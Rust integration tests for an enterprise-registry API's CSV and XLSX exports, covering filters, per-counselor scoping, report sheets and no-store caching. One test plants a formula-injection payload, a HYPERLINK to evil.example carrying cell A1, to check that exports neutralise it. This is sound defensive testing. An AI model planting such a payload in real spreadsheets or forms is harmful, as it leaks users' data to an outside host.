//! Exports open in a spreadsheet reader: CSV with a BOM, XLSX read back with calamine.

use crate::helpers::{TestApp, fields, id_of, problem, uscc};
use calamine::{Data, DataType, Reader, Xlsx, open_workbook_from_rs};
use chrono::NaiveDate;
use serde_json::json;
use std::io::Cursor;

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

async fn download(app: &TestApp, path: &str, accept: &str) -> (String, String, Vec<u8>) {
    let response = app.admin().request(reqwest::Method::GET, path).header("Accept", accept).send().await.expect("get");
    assert_eq!(response.status(), 200, "{path}");
    let header = |name: &str| response.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    (content_type, disposition, response.bytes().await.expect("body").to_vec())
}

fn workbook(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes)).expect("a readable XLSX")
}

#[actix_web::test]
async fn the_enterprise_list_exports_as_csv_and_xlsx_with_its_filters() {
    let app = TestApp::spawn().await;
    let (xinan, xixiang, _) = app.streets().await;
    let founded = json!({"uscc": uscc(1), "name": "深圳星河智能科技有限公司", "street_id": xinan, "cluster": "ai_robotics", "established_on": "2019-05-20", "employees": 120});
    let hnte = id_of(&app.enterprise(&founded).await);
    let body = json!({"to_tier": "hnte", "effective_on": "2026-01-05"});
    assert_eq!(app.post(&format!("/api/v1/enterprises/{hnte}/promotions"), &body).await.status(), 201);
    app.enterprise(&json!({"uscc": uscc(2), "name": "宝安新材料有限公司", "street_id": xinan})).await;
    app.enterprise(&json!({"uscc": uscc(3), "name": "西乡生物医药有限公司", "street_id": xixiang})).await;

    let (content_type, disposition, csv) =
        download(&app, &format!("/api/v1/enterprises?street_id={xinan}"), "text/csv").await;
    assert_eq!(content_type, "text/csv; charset=utf-8");
    assert!(disposition.starts_with("attachment; filename=\"enterprises-"), "{disposition}");
    assert!(csv.starts_with("\u{feff}".as_bytes()), "a BOM for Excel");
    let mut reader = csv::Reader::from_reader(&csv[3..]);
    let header: Vec<String> = reader.headers().expect("header").iter().map(str::to_owned).collect();
    assert_eq!(header[..3], ["统一社会信用代码", "企业名称", "梯队"]);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 2, "the street filter applies");
    assert_eq!(
        (&rows[1][1], &rows[1][2], &rows[1][3], &rows[1][5]),
        ("深圳星河智能科技有限公司", "国家高新技术企业", "新安街道", "2019-05-20")
    );

    let (content_type, _, xlsx) = download(&app, "/api/v1/enterprises?tier=hnte&format=xlsx", "application/json").await;
    assert_eq!(content_type, XLSX, "?format= wins over Accept");
    let mut book = workbook(xlsx);
    let sheet = book.worksheet_range("企业名录").expect("the sheet");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let title = rows[0][0].to_string();
    assert!(title.starts_with("企业名录（筛选：梯队=国家高新技术企业；生成于 "), "{title}");
    assert_eq!(rows[1][1], Data::String("企业名称".into()));
    assert_eq!(rows.len(), 3, "title, header and the one 国高");
    assert_eq!(rows[2][1], Data::String("深圳星河智能科技有限公司".into()));
    assert_eq!(rows[2][5].as_date(), NaiveDate::from_ymd_opt(2019, 5, 20), "dates are dates");
    assert_eq!(rows[2][6].as_f64(), Some(120.0));
    assert!(rows[2][10].is_datetime(), "registration time as a date-time");

    // A counselor's export holds their streets only; a bad format is named.
    let (_, counselor) = app.user("wang.xixiang", "counselor", &[&xixiang]).await;
    let theirs = app.with_token(&counselor).get("/api/v1/enterprises?format=csv").await.text().await.expect("csv");
    assert_eq!(theirs.lines().count(), 2, "header and 西乡's one enterprise: {theirs}");
    assert_eq!(fields(&problem(app.get("/api/v1/enterprises?format=pdf").await, 422).await), ["format"]);
}

#[actix_web::test]
async fn text_that_looks_like_a_formula_reaches_the_spreadsheet_as_text() {
    let app = TestApp::spawn().await;
    let (xinan, ..) = app.streets().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")"#;
    let body = json!({"uscc": uscc(1), "name": formula, "street_id": xinan, "contact_name": "-2+3"});
    app.enterprise(&body).await;

    let (_, _, csv) = download(&app, "/api/v1/enterprises", "text/csv").await;
    let mut reader = csv::Reader::from_reader(&csv[3..]);
    let row = reader.records().next().expect("a row").expect("readable");
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
    assert!(cells.contains(&"'-2+3"), "{cells:?}");
    assert!(cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])), "{cells:?}");
    // Personal data: neither a download nor a JSON answer is kept by any cache.
    for path in ["/api/v1/enterprises?format=csv", "/api/v1/enterprises", "/api/v1/me"] {
        let response = app.get(path).await;
        assert_eq!(response.headers()["cache-control"], "no-store", "{path}");
    }

    // XLSX writes it as a string, the very text: nothing to neutralise there.
    let (_, _, xlsx) = download(&app, "/api/v1/enterprises?format=xlsx", "application/json").await;
    let mut book = workbook(xlsx);
    let sheet = book.worksheet_range("企业名录").expect("the sheet");
    assert_eq!(sheet.rows().nth(2).expect("the row")[1], Data::String(formula.into()));
    let formulas = book.worksheet_formula("企业名录").expect("formulas");
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
}

#[actix_web::test]
async fn reports_export_one_sheet_per_table() {
    let app = TestApp::spawn().await;
    let (xinan, ..) = app.streets().await;
    let id = id_of(&app.enterprise(&json!({"uscc": uscc(1), "name": "企业1", "street_id": xinan})).await);
    let body = json!({"to_tier": "tech_sme", "effective_on": "2025-03-01", "valid_until": "2027-06-30"});
    assert_eq!(app.post(&format!("/api/v1/enterprises/{id}/promotions"), &body).await.status(), 201);

    let (_, _, xlsx) = download(&app, "/api/v1/pipeline/funnel?from_year=2025&to_year=2025", XLSX).await;
    let mut book = workbook(xlsx);
    assert_eq!(book.sheet_names(), ["晋级", "梯队转化", "申报通过率"]);
    let promotions = book.worksheet_range("晋级").expect("sheet");
    let row: Vec<String> = promotions.rows().nth(2).expect("a promotion").iter().map(ToString::to_string).collect();
    assert_eq!(row, ["2025", "未入库", "科技型中小企业", "1"]);
    let cohorts = book.worksheet_range("梯队转化").expect("sheet");
    assert_eq!(cohorts.rows().nth(2).expect("a cohort")[2].as_f64(), Some(1.0));

    // Every report opens, with its tables as sheets.
    for (path, sheets) in [
        ("/api/v1/pipeline/summary", vec!["按街道", "按产业集群"]),
        ("/api/v1/pipeline/coverage", vec!["按梯队", "按街道", "按走访频次·梯队", "按走访频次·街道", "久未走访"]),
        ("/api/v1/pipeline/requests", vec!["按类别", "按街道"]),
        ("/api/v1/targets?year=2025", vec!["年度目标"]),
        ("/api/v1/pipeline/expiring?within_days=1095", vec!["证书到期"]),
    ] {
        let (content_type, _, xlsx) = download(&app, path, XLSX).await;
        assert_eq!(content_type, XLSX, "{path}");
        assert_eq!(workbook(xlsx).sheet_names(), sheets, "{path}");
    }
    let mut summary = workbook(download(&app, "/api/v1/pipeline/summary", XLSX).await.2);
    let streets = summary.worksheet_range("按街道").expect("sheet");
    let xinan: Vec<String> = streets.rows().nth(2).expect("新安").iter().map(ToString::to_string).collect();
    assert_eq!(xinan, ["新安街道", "0", "1", "0", "0", "0", "0", "1"]);
    let expiring = download(&app, "/api/v1/pipeline/expiring?within_days=1095&format=csv", "*/*").await.2;
    let text = String::from_utf8(expiring).expect("utf-8");
    let row = text.lines().nth(1).unwrap_or_default();
    assert!(row.starts_with("企业1,新安街道,科技型中小企业,,2027-06-30,"), "{text}");
}
